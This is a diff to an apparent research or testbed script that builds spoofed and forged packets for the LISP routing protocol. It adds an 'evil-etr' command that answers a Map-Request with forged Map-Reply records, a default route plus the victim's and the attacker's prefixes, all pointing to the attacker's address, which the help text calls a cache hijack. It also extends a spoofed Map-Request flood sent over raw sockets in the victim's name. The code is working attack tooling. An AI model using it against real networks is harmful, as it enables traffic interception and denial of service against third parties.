@@ -11,6 +11,10 @@
                                    spoofed from VICTIM (its ITR-RLOC)
   decap ETR INNER_SRC INNER_DST    one LISP data packet (instance-id 0) to
                                    ETR:4341 carrying an ICMP echo request
+  evil-etr ADDR OWN VICTIM         an ETR whose site key the attacker holds:
+                                   answers the first ECM forwarded to it
+                                   with 0.0.0.0/0, VICTIM and OWN, all to
+                                   ADDR (the cache hijack)
 Each sender prints JSON with what it sent (messages, payload octets)."""
 import json
 import random
@@ -76,11 +80,14 @@ def sink(args):
 
 
 def mr_flood(args):
+    # mr-flood MR VICTIM N [A.B.C]: the 8 EIDs in A.B.C.0/24 (registered
+    # space) instead of unregistered 198.51.100.0/24
     mr, victim, n = args[0], args[1], int(args[2])
+    base = args[3] if len(args) > 3 else '198.51.100'
     sent = octets = 0
     s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     for i in range(n):
-        eids = ['198.51.100.%d' % random.randint(2, 250)] * 8
+        eids = ['%s.%d' % (base, random.randint(2, 250)) for k in range(8)]
         inner = map_request(random.getrandbits(64), victim, eids)
         inner_ip = ipv4(victim, eids[0], 17, udp(victim, eids[0], 40000, 4342, inner))
         ecm = struct.pack('!I', 8 << 28) + inner_ip
@@ -113,7 +120,32 @@ def decap(args):
     print(json.dumps({'messages': 1, 'octets': len(lisp)}))
 
 
+def evil_etr(args):
+    addr, own, victim = args
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    s.bind((addr, 4342))
+    s.settimeout(20)
+    data, frm = s.recvfrom(2048)
+    ip = data[4:]
+    ihl = (ip[0] & 15) * 4
+    sport = struct.unpack('!H', ip[ihl:ihl + 2])[0]
+    mreq = ip[ihl + 8:]
+    nonce = struct.unpack('!Q', mreq[4:12])[0]
+    off = 12
+    afi = struct.unpack('!H', mreq[off:off + 2])[0]
+    off += 2 + {0: 0, 1: 4, 2: 16}[afi]
+    itr = socket.inet_ntoa(mreq[off + 2:off + 6])
+    recs = [('0.0.0.0', 0), tuple(victim.split('/')), tuple(own.split('/'))]
+    rep = struct.pack('!IQ', (2 << 28) | len(recs), nonce)
+    for net, mlen in recs:
+        rep += struct.pack('!IBBHHH', 1440, 1, int(mlen), 0x1000, 0, 1) + socket.inet_aton(net)
+        rep += struct.pack('!BBBBHH', 1, 100, 255, 0, 0x0005, 1) + socket.inet_aton(addr)
+    s.sendto(rep, (itr, sport))
+    print(json.dumps({'answered': itr, 'records': len(recs)}), flush=True)
+
+
 if __name__ == '__main__':
     cmd, rest = sys.argv[1], sys.argv[2:]
     {'sink': sink, 'mr-flood': mr_flood, 'probe-flood': probe_flood,
-     'decap': decap}[cmd](rest)
+     'decap': decap, 'evil-etr': evil_etr}[cmd](rest)
